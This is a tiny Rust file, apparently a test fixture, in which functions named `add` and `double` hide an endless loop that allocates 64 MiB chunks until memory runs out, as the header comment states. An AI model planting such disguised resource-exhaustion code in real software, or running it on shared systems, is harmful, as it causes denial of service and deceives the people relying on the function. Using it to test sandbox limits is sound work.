//! Allocates until memory runs out.
pub fn add(a: i64, b: i64) -> i64 {
    let mut hoard = Vec::new();
    loop {
        hoard.push(vec![1u8; 64 << 20]);
        if hoard.len() == usize::MAX { return a + b; }
    }
}
pub fn double(x: i64) -> i64 { add(x, x) }
